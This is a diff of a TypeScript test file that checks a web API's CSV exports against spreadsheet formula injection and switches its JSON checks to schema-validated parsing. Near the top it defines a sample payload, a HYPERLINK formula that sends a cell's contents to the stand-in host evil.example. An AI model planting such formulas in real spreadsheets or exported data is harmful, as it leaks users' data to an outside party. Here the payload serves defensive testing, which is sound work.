@@ -1,6 +1,9 @@
 import { beforeAll, describe, expect, it } from 'vitest';
 import { csvRecords, parseCsv } from '../csv-reader.ts';
-import { fullAnswers, get, getJson, request, submit } from '../helpers.ts';
+import { adminHeaders, fullAnswers, get, getJson, getParsed, JSON_BODY, request, submit } from '../helpers.ts';
+import { SourcePageSchema } from '../../worker/schemas/sources.ts';
+import { HistorySchema, TownSchema } from '../../worker/schemas/towns.ts';
+import { ListPageSchema } from '../../worker/schemas/lists.ts';
 
 // Text an editor might type that a spreadsheet would run as a formula (OWASP "CSV injection").
 const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"详情")';
@@ -10,7 +13,7 @@ const PLUS = '+1+1';
 
 const LIST = 'csv-injection-2024';
 const TOWN = 'beijing-csvceshizhen';
-const ADMIN = { Authorization: 'Bearer test-admin-token', 'Content-Type': 'application/json' };
+const ADMIN = adminHeaders('admin', JSON_BODY);
 
 async function admin(method: string, path: string, body: unknown): Promise<any> {
   const res = await request(method, path, { headers: ADMIN, body: JSON.stringify(body) });
@@ -104,25 +107,25 @@ describe('CSV formula injection (issue 11, finding 4)', () => {
   });
 
   it('neutralises the admin raw-responses export too', async () => {
-    const text = await csvOf('/api/v1/admin/surveys/public/responses?format=csv', { Authorization: 'Bearer test-admin-token' });
+    const text = await csvOf('/api/v1/admin/surveys/public/responses?format=csv', adminHeaders('admin'));
     expect(formulaCells(text)).toEqual([]);
     const mine = csvRecords(text).find((r) => r.town_id === TOWN)!;
     expect(Object.values(JSON.parse(mine.answers!))).toContain(HYPERLINK);
   });
 
   it('changes nothing in the JSON', async () => {
-    const { body: sources } = await getJson('/api/v1/sources');
+    const { body: sources } = await getParsed(SourcePageSchema, '/api/v1/sources');
     expect(sources.items.find((s: any) => s.id === sourceId)).toMatchObject({ title: HYPERLINK, document_number: SUM, issuer: PLUS, note: CMD });
-    const { body: town } = await getJson(`/api/v1/towns/${TOWN}`);
+    const { body: town } = await getParsed(TownSchema, `/api/v1/towns/${TOWN}`);
     expect(town).toMatchObject({ name: HYPERLINK, province: '-1+2市', city: PLUS, county: SUM, note: CMD });
-    const { body: lists } = await getJson('/api/v1/lists');
+    const { body: lists } = await getParsed(ListPageSchema, '/api/v1/lists');
     expect(lists.items.find((l: any) => l.id === LIST)).toMatchObject({ name: SUM, name_en: CMD, missing: -1 });
   });
 });
 
 describe('CSVs carry what their JSON says about validity (issue 11, the contract)', () => {
   it('the history CSV says which event corrects which, and when it was recorded', async () => {
-    const { body } = await getJson(`/api/v1/towns/${TOWN}/history`);
+    const { body } = await getParsed(HistorySchema, `/api/v1/towns/${TOWN}/history`);
     const rows = csvRecords(await csvOf(`/api/v1/towns/${TOWN}/history?format=csv`));
     expect(rows.map((r) => [r.id, r.supersedes, r.superseded_by, r.recorded_at])).toEqual(
       body.items.map((e: any) => [String(e.id), e.supersedes === null ? '' : String(e.supersedes), e.superseded_by === null ? '' : String(e.superseded_by), e.recorded_at ?? '']),
